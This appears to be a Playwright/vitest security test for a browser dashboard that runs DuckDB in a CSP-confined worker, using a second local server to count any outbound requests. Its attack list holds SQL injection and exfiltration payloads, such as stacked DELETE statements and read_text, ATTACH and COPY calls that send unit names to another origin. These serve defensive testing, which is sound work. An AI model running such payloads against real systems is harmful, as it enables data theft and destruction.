/**
 * The red team's console attacks and the worker's network, in the browser: a second local server on another
 * port (another origin) counts every hit. Loading, the SQL console with every attack (through the view and
 * through window.__dashboard.query), exports and an upload make it count none; the attacks are refused with a
 * Chinese message and the figures are unchanged. The DuckDB worker runs from a blob: URL under the page's CSP:
 * a fetch evaluated inside it is refused, while the same script started from its network URL (the control)
 * does reach the other server — so this test would fail if the worker were not confined.
 */
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Worker as PwWorker } from 'playwright-core'
import { generateBundle } from '../../scripts/lib/generate.mjs'
import { encodeFiles } from '../../scripts/lib/encode.mjs'
import { appUrl, assertPrivate, baseUrl, getOption, openSession, query, sampleReportsCsv, uploadFiles, waitForReady, waitForReports, type Session, WORK_BOUND } from './helpers'
import { bundleFacts } from './bundle-facts'
import { startForeignServer, type ForeignServer } from './foreign-server'
import { startStaticServer } from './static-server'

let s: Session
let foreign: ForeignServer
const CONTROL = '/control-from-network-url-worker'
/** Hits other than the control's. */
const leaks = (): string[] => foreign.hits.filter((h) => h !== CONTROL)

const FIGURES_SQL = `SELECT (SELECT count(*) FROM reports)::INTEGER AS reports, (SELECT count(*) FROM summary)::INTEGER AS summary,
  (SELECT sum(active_total) FROM summary)::DOUBLE AS active, (SELECT count(*) FROM findings)::INTEGER AS findings,
  (SELECT string_agg(table_name, ',' ORDER BY table_name) FROM information_schema.tables) AS tables`

beforeAll(async () => {
  foreign = await startForeignServer()
  s = await openSession()
  await s.page.goto(appUrl('/'))
  await waitForReports(s.page, bundleFacts(sampleReportsCsv()).reportCount)
})
afterAll(async () => { await s?.close(); await foreign?.close() })

function attacks(o: string): [string, RegExp][] {
  const notSelect = /只能执行一条只读查询.*未执行，数据没有改变/
  const access = /访问文件、网址或扩展|不加载任何扩展/
  return [
    ['SELECT 1 AS 合计$$; CREATE TABLE pwn3 AS SELECT 7 AS x; --$$', notSelect],
    ['SELECT 1 AS 合计$$; DELETE FROM reports; DELETE FROM summary; --$$', notSelect],
    [`SET VARIABLE u = '${o}/x.csv?d=' || (SELECT string_agg(unit_name, '|') FROM units)`, notSelect],
    ["SELECT * FROM read_text(getvariable('u'))", /语法错误|NULL/],
    [`SELECT * FROM read_text('${o}/direct?d=' || (SELECT string_agg(unit_name, '|') FROM units))`, /出错|访问文件/],
    [`SELECT t.* FROM units, LATERAL read_text('${o}/lateral?d=' || unit_name) t`, /出错|访问文件/],
    [`SELECT * FROM read_text('${o}/constant')`, access],
    [`SELECT * FROM read_csv('${o}/csv')`, access],
    [`SELECT * FROM '${o}/bare.csv'`, access],
    [`SELECT * FROM read_text('/gdd/../${o}/escape')`, access],
    // under the allowed folder: a glob that matches no registered file, so no rows (never a request)
    [`SELECT * FROM read_text('/gdd/${o}/inside')`, /^rows:0$|访问文件|出错/],
    [`SET custom_extension_repository = '${o}'`, notSelect],
    ['LOAD x', notSelect],
    [`INSTALL x FROM '${o}'`, notSelect],
    [`ATTACH '${o}/db.duckdb' AS r`, notSelect],
    [`COPY summary TO '${o}/out.csv'`, notSelect],
    ['SET enable_external_access = true', notSelect],
    ['SET threads = 1', notSelect],
    ["SELECT nextval('file_seq')", /只读/],
  ]
}

describe.sequential('console attacks and the worker network, with another origin counting hits', () => {
  let before: Record<string, unknown>
  let chartBefore: unknown

  test('the DuckDB worker is a blob: worker; a fetch inside it to another origin is refused by the page\'s CSP', async () => {
    before = (await query(s.page, FIGURES_SQL))[0]
    chartBefore = await getOption(s.page, 'active-bars')
    const workers = s.page.workers()
    expect(workers.length).toBeGreaterThan(0)
    expect(workers.map((w) => w.url().slice(0, 5))).toEqual(workers.map(() => 'blob:'))
    for (const w of workers) {
      const got = await w.evaluate(async (url) => {
        const f = await fetch(url).then((r) => `fetched ${r.status}`, (e: unknown) => `refused ${String(e)}`)
        let x: string
        try { const r = new XMLHttpRequest(); r.open('GET', `${url}-xhr`, false); r.send(); x = `fetched ${r.status}` } catch (e) { x = `refused ${String(e)}` }
        return [f, x]
      }, `${foreign.origin}/from-worker`)
      expect(got.every((g) => g.startsWith('refused')), got.join(' | ')).toBe(true)
    }
    expect(leaks()).toEqual([])
  })

  test('control: the same worker script started from its network URL is not governed by the page\'s <meta> CSP', async () => {
    const script = s.requests.map((r) => r.url).find((u) => /duckdb-browser-(eh|mvp)\.worker[^/]*\.js$/.test(u))
    expect(script, 'the worker script was requested').toBeTruthy()
    const started = s.page.waitForEvent('worker', { predicate: (w) => w.url() === script })
    await s.page.evaluate((u) => { (window as unknown as { __control: Worker }).__control = new Worker(u) }, script!)
    const w: PwWorker = await started
    const got = await w.evaluate((url) => fetch(url).then((r) => `fetched ${r.status}`, (e: unknown) => `refused ${String(e)}`), `${foreign.origin}${CONTROL}`)
    await s.page.evaluate(() => (window as unknown as { __control: Worker }).__control.terminate())
    expect(got).toBe('fetched 200')
    expect(foreign.hits.filter((h) => h === CONTROL)).toHaveLength(1)
  })

  test('every attack through the SQL console view is refused with a Chinese message', async () => {
    await s.page.goto(appUrl('/sql'))
    await waitForReady(s.page)
    const editor = s.page.locator('[data-testid="sql-editor"]')
    await editor.waitFor({ state: 'visible', timeout: WORK_BOUND })
    /** Run a statement in the view; its message, or `rows:N` when it returned rows. */
    const run = async (sql: string): Promise<string> => {
      const n = Number(await s.page.getAttribute('[data-testid="view-sql"]', 'data-runs'))
      await editor.fill(sql)
      await s.page.click('[data-testid="sql-run"]')
      await s.page.waitForSelector(`[data-testid="view-sql"][data-runs="${n + 1}"]`, { timeout: WORK_BOUND })
      const alert = s.page.locator('[data-testid="sql-message"]')
      if (await alert.count()) return (await alert.textContent()) ?? ''
      return `rows:${await s.page.getAttribute('[data-testid="sql-count"]', 'data-rows')}`
    }
    for (const [sql, msg] of attacks(foreign.origin)) {
      expect(await run(sql), sql).toMatch(msg)
      expect(await run('SELECT count(*) AS n FROM summary')).toBe('rows:1') // the console still works
    }
    expect(leaks()).toEqual([])
  })

  test('the automation hook window.__dashboard.query goes through the same path', async () => {
    for (const [sql, msg] of attacks(foreign.origin)) {
      const err = await query(s.page, sql).then((rows) => `rows:${rows.length}`, (e: unknown) => String(e))
      expect(err, sql).toMatch(msg)
    }
    expect(leaks()).toEqual([])
  })

  test('figures and tables are unchanged; the charts too', async () => {
    expect((await query(s.page, FIGURES_SQL))[0]).toEqual(before)
    await s.page.goto(appUrl('/'))
    await waitForReady(s.page)
    expect(await getOption(s.page, 'active-bars')).toEqual(chartBefore)
  })

  test('exports and an upload reach no other origin', async () => {
    const panel = s.page.locator('[data-chart-id="active-heatmap"]')
    await panel.waitFor({ state: 'visible', timeout: WORK_BOUND })
    await Promise.all([s.page.waitForEvent('download', { timeout: WORK_BOUND }), panel.locator('[data-testid="export-png"]').click()])
    const { files, manifest } = generateBundle({ reports: 40, years: [2021, 2023], seed: 'confinement' })
    await uploadFiles(s.page, encodeFiles(files, 'gb18030'))
    expect((await waitForReports(s.page, manifest.counts.reports)).reports).toBe(manifest.counts.reports)
    await s.page.goto(appUrl('/sql'))
    await waitForReady(s.page)
    await s.page.locator('[data-testid="sql-editor"]').fill('SELECT unit_name FROM units')
    await s.page.click('[data-testid="sql-run"]')
    await s.page.locator('[data-testid="sql-count"]').waitFor({ state: 'visible', timeout: WORK_BOUND })
    await Promise.all([s.page.waitForEvent('download', { timeout: WORK_BOUND }), s.page.click('[data-testid="sql-export"]')])
    expect(leaks()).toEqual([])
    // The recorder's view agrees: every request of the page and its workers went to the app's own origin (but the
    // control's, and the probes evaluated in the worker, which the recorder lists before the CSP refuses them).
    const own = new URL(baseUrl()).origin
    expect(s.requests.filter((r) => /^https?:/.test(r.url) && new URL(r.url).origin !== own && !r.url.endsWith(CONTROL) && !r.url.includes('/from-worker')).map((r) => r.url)).toEqual([])
    assertPrivate(s)
  })
})

describe('served with the README\'s deployment headers', () => {
  const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8')
  const policies = [...readme.matchAll(/Content-Security-Policy(?::|"\s+value=|\s+)\s*"?([^"\n]+?)"?(?:\s+always;|\s*\/>|\n)/g)].map((m) => m[1].trim())

  test('the text, nginx, IIS and Apache policies are the same: the page\'s <meta> policy plus frame-ancestors', async () => {
    expect(policies).toHaveLength(4)
    expect(new Set(policies).size).toBe(1)
    const html = await (await fetch(baseUrl())).text()
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? ''
    expect(policies[0]).toBe(`${meta}; frame-ancestors 'none'`)
  })

  test('the app works under them and its worker still cannot reach another origin', async () => {
    const dist = process.env.GDD_DIST ?? fileURLToPath(new URL('../../dist', import.meta.url))
    const server = await startStaticServer(dist, '/headers/app/', { headers: {
      'content-security-policy': policies[0], 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer',
    } })
    // a new tab of the same browser (another origin: the other port; nothing of the first tab's is shared)
    const page = await s.context.newPage()
    try {
      await page.goto(`${server.url}#/`)
      await waitForReports(page, bundleFacts(sampleReportsCsv()).reportCount)
      const workers = page.workers()
      expect(workers.length).toBeGreaterThan(0)
      for (const w of workers) {
        expect(w.url().startsWith('blob:')).toBe(true)
        expect(await w.evaluate((u) => fetch(u).then(() => 'fetched', () => 'refused'), `${foreign.origin}/headers`)).toBe('refused')
      }
      expect(leaks()).toEqual([])
    } finally {
      await page.close()
      await server.close()
    }
  })
})
